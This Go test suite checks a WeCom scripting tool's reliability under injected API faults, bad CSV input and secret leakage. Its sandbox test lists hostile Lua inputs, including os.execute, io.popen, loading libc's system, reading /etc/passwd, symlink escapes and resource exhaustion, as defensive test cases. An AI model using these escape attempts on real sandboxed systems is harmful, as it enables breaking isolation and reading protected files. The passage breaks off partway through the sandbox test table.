package e2e

// The reliability and security suite (make reliability): faults injected
// into the emulator, bad input of every kind and hostile scripts, through the
// built binary as an admin runs it. The emulator runs in the test process, so
// that the tests inject faults and inspect the organisation, the request log
// and the token fetches. Its secrets are recognisable strings, and every run
// of the binary is checked for them and for the access tokens the emulator
// issued: none may appear in anything runner prints.

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/wecomrunner/runner/internal/emulatortest"
	"github.com/wecomrunner/runner/internal/redistest"
	"github.com/wecomrunner/runner/internal/syncbuf"

	"github.com/wecomrunner/runner/wecom/emulator"
)

// The secrets of the suite's organisation.
const (
	relContactsSecret = "SECRET-7f3a9c-should-never-appear"
	relOpsSecret      = "SECRET-2b8e41-ops-app-never-appear"
	relReportSecret   = "SECRET-c95d07-report-app-never-appear"
)

// relOrg is the demo organisation with the suite's secrets.
func relOrg() *emulator.Org {
	org := emulator.DemoOrg()
	org.ContactsSecret = relContactsSecret
	org.Apps[0].Secret = relOpsSecret
	org.Apps[1].Secret = relReportSecret
	return org
}

// relRig is an emulator with the suite's organisation, and a directory that
// is the working directory of the runs, and so their allowed directory.
type relRig struct {
	srv  *emulator.Server
	dir  string
	env  []string
	wrap []string // a command that runs runner, such as prlimit with its options

	mu        sync.Mutex
	secrets   []string // secrets and issued access tokens
	ownTokens int      // gettoken calls made by the test, not by runner
}

// The suite's corp is an older one, whose contacts sync has called from this
// machine since before 2022-08-15: its scripts read members with the
// contacts-sync secret (emulator.WithContactsSyncIPs).
func newRelRig(t *testing.T, opts ...emulator.Option) *relRig {
	t.Helper()
	srv := emulatortest.Start(t, relOrg(), append([]emulator.Option{emulator.WithContactsSyncIPs("127.0.0.1")}, opts...)...)
	cred := srv.Credentials()
	r := &relRig{
		srv: srv,
		dir: t.TempDir(),
		env: []string{
			"WECOM_BASE_URL=" + srv.BaseURL(),
			"WECOM_CORP_ID=" + cred.CorpID,
			"WECOM_SECRET=" + cred.Apps[0].Secret,
			"WECOM_AGENT_ID=" + strconv.Itoa(cred.Apps[0].AgentID),
			"WECOM_CONTACTS_SECRET=" + cred.ContactsSecret,
		},
		secrets: []string{relContactsSecret, relOpsSecret, relReportSecret},
	}
	r.learnTokens(t)
	if len(r.secrets) != 6 {
		t.Fatal("cannot learn the emulator's access tokens")
	}
	return r
}

// learnTokens fetches the current access token of each secret, as runner's
// clients get it (the emulator answers the same token while it is valid),
// and adds it to the strings that must never be printed.
func (r *relRig) learnTokens(t *testing.T) {
	t.Helper()
	for _, secret := range []string{relContactsSecret, relOpsSecret, relReportSecret} {
		tok, err := r.token(secret)
		if err != nil {
			continue // an injected fault: no token to learn
		}
		r.mu.Lock()
		if !slices.Contains(r.secrets, tok) {
			r.secrets = append(r.secrets, tok)
		}
		r.mu.Unlock()
	}
}

// token calls gettoken with secret and returns the access token.
func (r *relRig) token(secret string) (string, error) {
	r.mu.Lock()
	r.ownTokens++
	r.mu.Unlock()
	q := url.Values{"corpid": {r.srv.Credentials().CorpID}, "corpsecret": {secret}}
	res, err := http.Get(r.srv.BaseURL() + "gettoken?" + q.Encode())
	if err != nil {
		return "", err
	}
	defer res.Body.Close()
	var answer struct {
		ErrCode     int    `json:"errcode"`
		AccessToken string `json:"access_token"`
	}
	if err := json.NewDecoder(res.Body).Decode(&answer); err != nil {
		return "", err
	}
	if answer.ErrCode != 0 || len(answer.AccessToken) < 16 {
		return "", fmt.Errorf("gettoken: errcode %d", answer.ErrCode)
	}
	return answer.AccessToken, nil
}

// tokenFetches is how many times runner called gettoken.
func (r *relRig) tokenFetches() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.srv.TokenRequests() - r.ownTokens
}

// calls returns the emulator's log of the calls of api, oldest first.
func (r *relRig) calls(api string) []emulator.Request {
	var out []emulator.Request
	for _, req := range r.srv.Requests() {
		if req.API == api {
			out = append(out, req)
		}
	}
	return out
}

// wantSent fails the test unless the emulator has seen want calls of api.
func (r *relRig) wantSent(t *testing.T, api string, want int) {
	t.Helper()
	if got := len(r.calls(api)); got != want {
		t.Errorf("%s sent %d times, want %d", api, got, want)
	}
}

// errcodes lists the errcodes answered to the calls of api.
func (r *relRig) errcodes(api string) []int {
	var out []int
	for _, req := range r.calls(api) {
		out = append(out, req.ErrCode)
	}
	return out
}

// uploads lists the calls that would have changed members in bulk: media
// uploads and batch jobs.
func (r *relRig) uploads() []string {
	var out []string
	for _, req := range r.srv.Requests() {
		if req.API == "media/upload" || strings.HasPrefix(req.API, "batch/") {
			out = append(out, req.API)
		}
	}
	return out
}

// write writes a file in the rig's directory and returns its path.
func (r *relRig) write(t *testing.T, name string, content []byte) string {
	t.Helper()
	p := filepath.Join(r.dir, name)
	if err := os.WriteFile(p, content, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// jobsFile writes the rig's jobs.yaml, and returns it: timezone UTC, then
// settings (whole lines), the suite's clients and the list of jobs.
func (r *relRig) jobsFile(t *testing.T, settings, jobs string) string {
	t.Helper()
	content := "timezone: UTC\n" + settings + relClients + "jobs:\n" + jobs
	r.write(t, "jobs.yaml", []byte(content))
	return content
}

// relRun is a finished run of the binary.
type relRun struct {
	stdout, stderr string
	code           int
	elapsed        time.Duration
	maxRSS         int64 // peak resident memory of the process, bytes
}

// relProc is a run of the binary in progress.
type relProc struct {
	rig    *relRig
	cmd    *exec.Cmd
	out    *syncbuf.Buffer
	errOut *syncbuf.Buffer
	start  time.Time
	exited chan struct{} // closed when the process has exited
	err    error         // cmd.Wait's, once exited is closed
	killed bool          // the test killed it with SIGKILL
	peak   atomic.Int64  // the highest peak resident memory read, bytes
	// onExit, when set, runs as soon as the process has exited.
	onExit func()
}

// start starts runner with args in the rig's directory and environment.
func (r *relRig) start(t *testing.T, args ...string) *relProc {
	t.Helper()
	return r.startEnv(t, nil, args...)
}

// startEnv starts runner with the rig's environment changed by env
// (NAME=value entries replace the rig's).
func (r *relRig) startEnv(t *testing.T, env []string, args ...string) *relProc {
	t.Helper()
	argv := append(append(slices.Clone(r.wrap), runnerBin), args...)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = r.dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}
	for _, kv := range r.env {
		name, _, _ := strings.Cut(kv, "=")
		if !slices.ContainsFunc(env, func(e string) bool { return strings.HasPrefix(e, name+"=") }) {
			cmd.Env = append(cmd.Env, kv)
		}
	}
	cmd.Env = append(cmd.Env, env...)
	p := &relProc{rig: r, cmd: cmd, out: &syncbuf.Buffer{}, errOut: &syncbuf.Buffer{}, exited: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = p.out, p.errOut
	p.start = time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		p.err = cmd.Wait()
		close(p.exited)
	}()
	go p.watchMemory()
	t.Cleanup(func() {
		select {
		case <-p.exited:
		default:
			cmd.Process.Kill()
			<-p.exited
		}
	})
	return p
}

// watchMemory reads the process's peak resident memory (VmHWM, which
// counts from its exec, unlike the rusage of a child forked from the test)
// every few milliseconds until it exits.
func (p *relProc) watchMemory() {
	path := fmt.Sprintf("/proc/%d/status", p.cmd.Process.Pid)
	for {
		if b, err := os.ReadFile(path); err == nil {
			if m := vmHWM.FindSubmatch(b); m != nil {
				if kb, err := strconv.ParseInt(string(m[1]), 10, 64); err == nil && kb<<10 > p.peak.Load() {
					p.peak.Store(kb << 10)
				}
			}
		}
		select {
		case <-p.exited:
			return
		case <-time.After(2 * time.Millisecond):
		}
	}
}

var vmHWM = regexp.MustCompile(`VmHWM:\s+(\d+) kB`)

// running reports whether the process has not exited yet.
func (p *relProc) running() bool {
	select {
	case <-p.exited:
		return false
	default:
		return true
	}
}

// kill stops the process with SIGKILL, as the OOM killer or a power cut
// would, and waits for it.
func (p *relProc) kill(t *testing.T) relRun {
	t.Helper()
	p.killed = true
	if err := p.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	return p.wait(t)
}

// stop stops the process with SIGTERM, as a service manager does, and
// waits for it (a process that has exited already is waited for as it is).
func (p *relProc) stop(t *testing.T) relRun {
	t.Helper()
	p.cmd.Process.Signal(syscall.SIGTERM)
	return p.wait(t)
}

// procLimit bounds every run of the binary: a run still going after it is
// killed and fails its test.
const procLimit = 90 * time.Second

// wait waits for the process to exit, then checks its output for secrets and
// crashes.
func (p *relProc) wait(t *testing.T) relRun {
	t.Helper()
	select {
	case <-p.exited:
	case <-time.After(procLimit):
		p.cmd.Process.Kill()
		<-p.exited
		t.Fatalf("runner %s still running after %s, killed\nstderr:\n%s", strings.Join(p.cmd.Args[1:], " "), procLimit, p.errOut)
	}
	run := relRun{stdout: p.out.String(), stderr: p.errOut.String(), elapsed: time.Since(p.start), maxRSS: p.peak.Load()}
	if p.onExit != nil {
		p.onExit()
	}
	var exitErr *exec.ExitError
	switch {
	case p.err == nil:
	case errors.As(p.err, &exitErr):
		run.code = exitErr.ExitCode()
	default:
		t.Fatal(p.err)
	}
	p.rig.learnTokens(t)
	p.rig.assertNoSecrets(t, "stdout", run.stdout)
	p.rig.assertNoSecrets(t, "stderr", run.stderr)
	if !p.killed {
		relNoCrash(t, run)
	}
	return run
}

// run runs runner with args to its end.
func (r *relRig) run(t *testing.T, args ...string) relRun {
	t.Helper()
	return r.start(t, args...).wait(t)
}

// script writes src as a Lua script in the rig's directory and returns its
// path.
func (r *relRig) script(t *testing.T, name, src string) string {
	t.Helper()
	return r.write(t, name, []byte(src))
}

// exec runs src with runner exec, the contacts client and args.
func (r *relRig) exec(t *testing.T, src string, args ...string) relRun {
	t.Helper()
	return r.startExec(t, src, args...).wait(t)
}

// startExec starts src with runner exec, the contacts client and args.
func (r *relRig) startExec(t *testing.T, src string, args ...string) *relProc {
	t.Helper()
	p := r.script(t, "script.lua", src)
	return r.start(t, append(append([]string{"exec", "--client", "contacts"}, args...), p)...)
}

// assertNoSecrets fails the test if text holds a secret or an access token
// of the rig, whole or its first 12 characters.
func (r *relRig) assertNoSecrets(t *testing.T, where, text string) {
	t.Helper()
	r.mu.Lock()
	secrets := slices.Clone(r.secrets)
	r.mu.Unlock()
	for _, s := range secrets {
		if strings.Contains(text, s[:12]) {
			t.Errorf("%s holds the secret or token %.12s…:\n%s", where, s, text)
		}
	}
}

// relNoCrash fails the test if the run crashed instead of failing with
// a message: a Go panic or fatal error, or an exit code other than 0, 1, 2.
func relNoCrash(t *testing.T, run relRun) {
	t.Helper()
	for _, sign := range []string{"panic:", "fatal error:", "goroutine 1 ["} {
		if strings.Contains(run.stderr, sign) {
			t.Errorf("runner crashed (%q on stderr):\n%.3000s", sign, run.stderr)
			return
		}
	}
	if run.code < 0 || run.code > 2 {
		t.Errorf("exit code %d: killed or crashed\n%.3000s", run.code, run.stderr)
	}
}

// relWantRun fails the test unless the run exited with code and its stderr
// holds each of the strings.
func relWantRun(t *testing.T, run relRun, code int, stderr ...string) {
	t.Helper()
	if run.code != code {
		t.Errorf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", run.code, code, run.stdout, run.stderr)
		return
	}
	for _, s := range stderr {
		if !strings.Contains(run.stderr, s) {
			t.Errorf("stderr lacks %q:\n%s", s, run.stderr)
		}
	}
}

// relWait polls cond until it holds, failing the test after a minute.
func relWait(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// relPause calls first, waits until the file "continue" exists in the
// rig's directory, then calls second: the test acts on the emulator in
// between.
func relPause(first, second string) string {
	return `
		local wecom = require("wecom")
		local fs = require("fs")
		local time = require("time")
		` + first + `
		while not fs.exists("continue") do time.sleep(0.01) end
		` + second + "\n"
}

// duringPause waits until a relPause script whose first part calls
// user/get once has made that call, runs act, then lets the script go on.
func (r *relRig) duringPause(t *testing.T, act func()) {
	t.Helper()
	relWait(t, "the first user/get", func() bool { return len(r.calls("user/get")) == 1 })
	act()
	r.resume(t)
}

// resume lets a relPause script go on: it writes "continue" where the
// script looks, the working directory (runner exec) or data/ beside
// jobs.yaml (the default of dirs).
func (r *relRig) resume(t *testing.T) {
	t.Helper()
	r.write(t, "continue", nil)
	if err := os.MkdirAll(filepath.Join(r.dir, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.write(t, filepath.Join("data", "continue"), nil)
}

// expireAfterFirstGet runs a script that prints zhangsan's name, then,
// once the emulator has expired every token, runs second; the run must
// succeed.
func (r *relRig) expireAfterFirstGet(t *testing.T, second string) relRun {
	t.Helper()
	p := r.startExec(t, relPause(`print(wecom.user.get("zhangsan").name)`, second))
	r.duringPause(t, r.srv.ExpireTokens)
	run := p.wait(t)
	relWantRun(t, run, 0)
	return run
}

// TestReliabilityTokenExpiry: an access token that WeCom declares expired
// (42001) or invalid (40014) in the middle of a run costs one gettoken and
// one retry, and the run succeeds; a second stale answer in a row is final.
func TestReliabilityTokenExpiry(t *testing.T) {
	t.Parallel()
	const getOne = `print(require("wecom").user.get("zhangsan").name)`
	for _, code := range []int{42001, 40014} {
		t.Run(fmt.Sprintf("FailNext %d", code), func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t)
			r.srv.FailNext("user/get", 1, code)
			run := r.exec(t, getOne)
			relWantRun(t, run, 0)
			if run.stdout != "张三\n" {
				t.Errorf("stdout = %q, want 张三", run.stdout)
			}
			if got := r.tokenFetches(); got != 2 {
				t.Errorf("%d gettoken calls, want 2 (the first token and one refresh)", got)
			}
			if got, want := r.errcodes("user/get"), []int{code, 0}; !slices.Equal(got, want) {
				t.Errorf("user/get answered %v, want %v (one retry)", got, want)
			}
		})
		t.Run(fmt.Sprintf("ExpireTokens %d", code), func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t, emulator.WithExpiredTokenErrcode(code))
			run := r.expireAfterFirstGet(t, `print(wecom.user.get("lisi").name)`)
			if run.stdout != "张三\n李四\n" {
				t.Errorf("stdout = %q, want 张三 and 李四", run.stdout)
			}
			if got := r.tokenFetches(); got != 2 {
				t.Errorf("%d gettoken calls, want 2", got)
			}
			if got, want := r.errcodes("user/get"), []int{0, code, 0}; !slices.Equal(got, want) {
				t.Errorf("user/get answered %v, want %v", got, want)
			}
		})
	}
	t.Run("ExpireTokens before a fan-out", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		run := r.expireAfterFirstGet(t, `local items = {}
			for _, u in ipairs(wecom.user.list(1, true, 0, true)) do items[#items + 1] = {user_id = u.userid} end
			local results, failed = wecom.fanout("user.get", items, {concurrency = 8})
			print(#results, failed)`)
		if run.stdout != "张三\n40\t0\n" {
			t.Errorf("stdout = %q, want 40 members fetched and none failed", run.stdout)
		}
		// Concurrent callers that all meet the expired token share one refresh.
		if got := r.tokenFetches(); got != 2 {
			t.Errorf("%d gettoken calls, want 2", got)
		}
	})
	t.Run("stale twice", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		r.srv.FailNext("user/get", 2, 42001)
		run := r.exec(t, getOne)
		relWantRun(t, run, 1, "user/get", "42001")
		if got := r.tokenFetches(); got != 2 {
			t.Errorf("%d gettoken calls, want 2: one refresh only", got)
		}
		r.wantSent(t, "user/get", 2)
	})
}

// relDept is the department the fault tests create.
const relDept = "可靠性测试部"

// relCreateDept creates relDept.
const relCreateDept = `
	local r = require("wecom").department.create{name = "` + relDept + `", parent_id = 1}
	print("created", r.id)
`

// departmentsNamed counts the organisation's departments called name.
func (r *relRig) departmentsNamed(name string) int {
	n := 0
	for _, d := range r.srv.Snapshot().Departments {
		if d.Name == name {
			n++
		}
	}
	return n
}

// TestReliabilityTransientFaults: WeCom busy (errcode -1), a 5xx answer, a
// dropped connection and a server slower than the run's timeout. Reads and
// writes that certainly did not reach WeCom are retried a bounded number of
// times; a write whose answer was lost is not replayed, and its error says
// the outcome is unknown; no write is applied twice.
func TestReliabilityTransientFaults(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		inject  func(s *emulator.Server)
		code    int
		sent    int // department/create requests
		created int
		stderr  []string
	}{
		{"errcode -1 twice", func(s *emulator.Server) { s.FailNext("department/create", 2, -1) }, 0, 3, 1, nil},
		{"errcode -1 persists", func(s *emulator.Server) { s.FailNext("department/create", 10, -1) }, 1, 3, 0,
			[]string{"script.lua:2:", "department/create", "errcode -1"}},
		{"HTTP 502 twice", func(s *emulator.Server) { s.FailNextHTTP("department/create", 2, 502) }, 0, 3, 1, nil},
		{"HTTP 502 persists", func(s *emulator.Server) { s.FailNextHTTP("department/create", 10, 502) }, 1, 3, 0,
			[]string{"script.lua:2:", "department/create", "HTTP 502"}},
		{"HTTP 503 on gettoken", func(s *emulator.Server) { s.ExpireTokens(); s.FailNextHTTP("gettoken", 10, 503) }, 1, 0, 0,
			[]string{"script.lua:2:", "gettoken", "503"}},
		{"dropped write", func(s *emulator.Server) { s.DropNext("department/create", 1) }, 1, 1, 0,
			[]string{"script.lua:2:", "department/create", "outcome unknown"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newRelRig(t)
			tt.inject(r.srv)
			run := r.exec(t, relCreateDept)
			relWantRun(t, run, tt.code, tt.stderr...)
			r.wantSent(t, "department/create", tt.sent)
			if got := r.departmentsNamed(relDept); got != tt.created {
				t.Errorf("%d departments %s, want %d", got, relDept, tt.created)
			}
			if tries := len(r.calls("gettoken")) - r.ownCalls(); tries < 1 || tries > 3 {
				t.Errorf("runner called gettoken %d times, want 1 to 3", tries)
			}
		})
	}

	t.Run("dropped read", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		r.srv.DropNext("user/get", 2)
		run := r.exec(t, `print(require("wecom").user.get("zhangsan").name)`)
		relWantRun(t, run, 0)
		if run.stdout != "张三\n" {
			t.Errorf("stdout = %q", run.stdout)
		}
		r.wantSent(t, "user/get", 3)
	})

	t.Run("server slower than the timeout", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		const latency = time.Minute // the emulator answers when the client goes away
		p := r.startExec(t, relPause(`print(wecom.user.get("zhangsan").name)`, relCreateDept), "--timeout", "3s")
		r.duringPause(t, func() { r.srv.SetLatency(latency, 0) })
		p.onExit = func() { r.srv.SetLatency(0, 0) }
		run := p.wait(t)
		relWantRun(t, run, 1, "timed out", "department/create", "outcome unknown")
		if run.elapsed >= latency {
			t.Errorf("the run took %s: it waited for the server instead of stopping at its timeout", run.elapsed)
		}
		// The emulator applies the write when the client goes away: the
		// write was sent once and applied at most once.
		relWait(t, "the emulator to answer the create", func() bool { return len(r.calls("department/create")) == 1 })
		if got := r.departmentsNamed(relDept); got > 1 {
			t.Errorf("%d departments %s: a write was applied twice", got, relDept)
		}
	})
}

// TestReliabilityScheduledTimeout: a scheduled run that reaches its timeout
// during a slow write says in its history which call was in flight.
func TestReliabilityScheduledTimeout(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	r.jobsFile(t, "", `  - {name: sync, schedule: "@daily", script: sync.lua, client: contacts, timeout: 3s}`)
	r.script(t, "sync.lua", relPause(`print(wecom.user.get("zhangsan").name)`, relCreateDept))
	p := r.start(t, "jobs", "run", "sync")
	r.duringPause(t, func() { r.srv.SetLatency(8*time.Second, 0) })
	p.onExit = func() { r.srv.SetLatency(0, 0) }
	run := p.wait(t)
	relWantRun(t, run, 1)
	history := r.history(t, "sync")
	wantContains(t, "the history", history, "timed_out: timed out after 3s (", "department/create", "outcome unknown")
}

// TestReliabilityRateLimit: WeCom's frequency limit (45009) slows a run down
// without failing it, within its timeout; a limit outlasting the timeout
// fails the run before its deadline with a clear error.
func TestReliabilityRateLimit(t *testing.T) {
	t.Parallel()
	t.Run("burst", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		r.srv.FailNext("user/get", 3, 45009)
		run := r.exec(t, `print(require("wecom").user.get("zhangsan").name)`, "--timeout", "30s")
		relWantRun(t, run, 0)
		if got, want := r.errcodes("user/get"), []int{45009, 45009, 45009, 0}; !slices.Equal(got, want) {
			t.Fatalf("user/get answered %v, want %v", got, want)
		}
		calls := r.calls("user/get")
		for i := 1; i < len(calls); i++ {
			if gap := calls[i].Time.Sub(calls[i-1].Time); gap < 400*time.Millisecond {
				t.Errorf("retry %d came %s after a 45009: the client did not slow down", i, gap)
			}
		}
	})

	t.Run("one-minute window", func(t *testing.T) {
		t.Parallel()
		// The emulator's clock runs 30 times faster than the test's, so
		// that its one-minute frequency window lasts 2 s.
		origin := time.Now()
		r := newRelRig(t, emulator.WithClock(func() time.Time { return origin.Add(30 * time.Since(origin)) }))
		r.srv.SetRateLimit("user/get", 5)
		run := r.exec(t, `
			local wecom = require("wecom")
			for i = 1, 12 do wecom.user.get("zhangsan") end
			print("done")
		`, "--timeout", "40s")
		relWantRun(t, run, 0)
		ok, limited := 0, 0
		for _, code := range r.errcodes("user/get") {
			switch code {
			case 0:
				ok++
			case 45009:
				limited++
			}
		}
		if ok != 12 || limited == 0 {
			t.Errorf("user/get: %d answered, %d rate-limited; want 12 answered after some 45009", ok, limited)
		}
		if run.elapsed > 30*time.Second {
			t.Errorf("the run took %s", run.elapsed)
		}
	})

	t.Run("limit outlasting the timeout", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		r.srv.FailNext("user/get", 1000, 45009)
		run := r.exec(t, `print(require("wecom").user.get("zhangsan").name)`, "--timeout", "3s")
		relWantRun(t, run, 1, "user/get", "45009")
		if run.elapsed > 30*time.Second { // WeCom's window is a minute
			t.Errorf("the run took %s with a 3s timeout", run.elapsed)
		}
		if n := len(r.calls("user/get")); n < 2 || n > 10 {
			t.Errorf("user/get sent %d times in 3 s", n)
		}
	})
}

// relMemberCSV is the HR export format of replace_user.lua for users.
func relMemberCSV(users []emulator.User) []byte {
	var b bytes.Buffer
	b.WriteString("userid,name,department,mobile,email,position,gender\n")
	for _, u := range users {
		var deps []string
		for _, d := range u.Department {
			deps = append(deps, strconv.Itoa(d))
		}
		fmt.Fprintf(&b, "%s,%s,%s,%s,%s,%s,%s\n", u.UserID, u.Name, strings.Join(deps, ";"), u.Mobile, u.Email, u.Position, u.Gender)
	}
	return b.Bytes()
}

// members is the organisation's members with their departments, sorted.
func (r *relRig) members() []string {
	var out []string
	for _, u := range r.srv.Snapshot().Users {
		out = append(out, fmt.Sprint(u.UserID, u.Department))
	}
	slices.Sort(out)
	return out
}

// TestReliabilityBadCSV: bad member files, read with csv.read and turned into
// WeCom's batch file with csv.member_file, or given to the example
// replace_user.lua, and a file that would remove half the members: refused
// before anything is uploaded, with an error naming the problem; the members
// stay as they were.
func TestReliabilityBadCSV(t *testing.T) {
	t.Parallel()
	users := relOrg().Users
	good := relMemberCSV(users)
	gbk, err := simplifiedchinese.GBK.NewEncoder().Bytes(good)
	if err != nil {
		t.Fatal(err)
	}
	withRow := func(extra string) []byte { return append(slices.Clone(good), extra...) }
	files := []struct {
		name string
		data []byte
		// the error of the batch helpers, and of replace_user.lua
		helpers, example string
	}{
		{"GBK", gbk, "line 2: not UTF-8 (looks like GBK)", "line 2: not UTF-8 (looks like GBK)"},
		{"wrong header", bytes.Replace(good, []byte("userid,"), []byte("user_id,"), 1), "userid is required", "userid is required"},
		{"duplicate userid", withRow("ZhangSan,张三二,2,13900000001,zs2@tengfei.example.com,,1\n"), `userid "ZhangSan" repeats members[`, `userid "ZhangSan" repeats members[`},
		{"department name for id", withRow("newbie,新人,研发中心,13900000002,,,1\n"), "研发中心 is not an integer", `department "研发中心" is not a number`},
		{"unknown department", withRow("newbie,新人,999,13900000002,,,1\n"), "", "department 999"},
		{"empty", nil, "no members", "no members"},
		{"header only", []byte("userid,name,department,mobile,email,position,gender\n"), "no members", "no members"},
		{"half the members", relMemberCSV(users[:len(users)/2]), "", "refusing: the file would remove 20 of 40 members"},
	}
	const helpers = `
		local wecom = require("wecom")
		local csv = require("csv")
		local members = {}
		for _, row in ipairs(csv.read(require("args").get("source"))) do
			members[#members + 1] = {userid = row.userid, name = row.name, department = row.department,
				mobile = row.mobile, email = row.email, position = row.position, gender = row.gender}
		end
		local file = csv.member_file(members)
		local media = wecom.media.upload("file", {filename = "members.csv", content = file})
		print(wecom.batch.replace_user{media_id = media.media_id}.jobid)
	`
	example, err := filepath.Abs("scripts/examples/replace_user.lua")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		for _, via := range []string{"helpers", "replace_user.lua"} {
			want := f.helpers
			if via != "helpers" {
				want = f.example
			}
			if want == "" {
				continue // the helpers know no organisation
			}
			t.Run(f.name+" via "+via, func(t *testing.T) {
				t.Parallel()
				r := newRelRig(t)
				before := r.members()
				src := r.write(t, "members.csv", f.data)
				var run relRun
				if via == "helpers" {
					run = r.exec(t, helpers, "--arg", "source="+src)
				} else {
					run = r.run(t, "exec", "--client", "contacts", "--arg", "source="+src, example)
				}
				relWantRun(t, run, 1, want)
				if up := r.uploads(); len(up) != 0 {
					t.Errorf("a refused file was sent: %v", up)
				}
				if after := r.members(); !slices.Equal(before, after) {
					t.Errorf("members changed:\nbefore %v\nafter  %v", before, after)
				}
			})
		}
	}

	t.Run("good file via replace_user.lua", func(t *testing.T) {
		t.Parallel()
		r := newRelRig(t)
		before := r.members()
		src := r.write(t, "members.csv", good)
		run := r.run(t, "exec", "--client", "contacts", "--arg", "source="+src, example)
		relWantRun(t, run, 0)
		if up := r.uploads(); !slices.Contains(up, "media/upload") || !slices.Contains(up, "batch/replaceuser") {
			t.Errorf("the good file was not replaced: %v", up)
		}
		if after := r.members(); !slices.Equal(before, after) {
			t.Errorf("replacing the members with themselves changed them:\nbefore %v\nafter  %v", before, after)
		}
	})
}

// TestReliabilitySandbox: scripts that try to escape the sandbox, read or
// write outside the allowed directories, or exhaust the CPU, the stack or
// the memory are refused or stopped with exit code 1 and a message, not a
// crash, and the next run works.
func TestReliabilitySandbox(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	secretFile := filepath.Join(outside, "secret.txt")
	if err := os.WriteFile(secretFile, []byte("outside-content-d41d8c"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		src     string
		args    []string
		stderr  []string
		setup   func(t *testing.T, dir string)
		outside string // a file under outside that must not exist afterwards
		memory  bool   // takes gigabytes: not in parallel with the others
	}{
		{name: "os.execute", src: `os.execute("touch pwned")`, stderr: []string{"script.lua:1:"}},
		{name: "io.popen", src: `io.popen("id")`, stderr: []string{"script.lua:1:"}},
		{name: "require io", src: `require("io").popen("id")`, stderr: []string{"script.lua:1:", `module io not found`}},
		{name: "loadfile", src: `loadfile("script.lua")()`, stderr: []string{"script.lua:1:"}},
		{name: "dofile", src: `dofile("script.lua")`, stderr: []string{"script.lua:1:"}},
		{name: "loadstring bytecode", src: `assert(loadstring("\27LuaQ\0\1\4\8\4\8\0"))()`, stderr: []string{"script.lua:1:", "precompiled"}},
		{name: "load bytecode from a function", src: `
			local sent = false
			local f, err = load(function() if sent then return nil end sent = true return "\27LuaQ\0\1\4\8\4\8\0" end)
			assert(f, err)()`, stderr: []string{"script.lua:4:"}},
		{name: "package.loadlib", src: `package.loadlib("/lib/x86_64-linux-gnu/libc.so.6", "system")("id")`, stderr: []string{"script.lua:1:"}},
		{name: "fs.read /etc/passwd", src: `print(require("fs").read("/etc/passwd"))`, stderr: []string{"outside the allowed directories"}},
		{name: "fs.read outside", src: `print(require("fs").read("` + secretFile + `"))`, stderr: []string{"outside the allowed directories"}},
		{name: "csv.write ../", src: `require("csv").write("../x.csv", {{a = 1}})`, stderr: []string{"outside the allowed directories"}},
		{name: "symlink to a file outside", src: `print(require("fs").read("link.txt"))`, stderr: []string{"outside the allowed directories"},
			setup: func(t *testing.T, dir string) { relSymlink(t, secretFile, filepath.Join(dir, "link.txt")) }},
		{name: "dangling symlink to outside", src: `require("csv").write("out.csv", {{a = 1}})`, stderr: []string{"outside the allowed directories"},
			setup: func(t *testing.T, dir string) {
				relSymlink(t, filepath.Join(outside, "new.csv"), filepath.Join(dir, "out.csv"))
			},
			outside: "new.csv"},
		{name: "symlinked directory to outside", src: `require("fs").write("sub/x.txt", "x")`, stderr: []string{"outside the allowed directories"},
			setup:   func(t *testing.T, dir string) { relSymlink(t, outside, filepath.Join(dir, "sub")) },
			outside: "x.txt"},
		{name: "upload a file outside", src: `require("wecom").media.upload("file", "` + secretFile + `")`, stderr: []string{"outside the allowed directories"}},
		{name: "http file URL", src: `print(require("http").get("file://` + secretFile + `").body)`, stderr: []string{"script.lua:1:"}},
		{name: "infinite loop", src: `while true do end`, args: []string{"--timeout", "1s"}, stderr: []string{"timed out"}},
		{name: "recursion", src: "local function f(n) return 1 + f(n + 1) end\nprint(f(1))", stderr: []string{"stack overflow"}},
		{name: "recursion through metamethods", src: `
			local t = setmetatable({}, {__index = function(t, k) return t[k] end})
			print(t.x)`, stderr: []string{"stack overflow"}},
		{name: "recursion through coroutines", src: `
			local function f() return coroutine.wrap(f)() end
			f()`, args: []string{"--timeout", "30s"}, stderr: []string{"stack overflow", "coroutines nested"}},
		{name: "string.rep", src: `local s = string.rep("x", 1e10)`, stderr: []string{"script.lua:1:", "exceeds the limit"}},
		{name: "string.rep method", src: `local s = ("xy"):rep(1e9)`, stderr: []string{"script.lua:1:", "exceeds the limit"}},
		{name: "doubling a string", src: `
			local s = "x"
			for i = 1, 40 do s = s .. s end
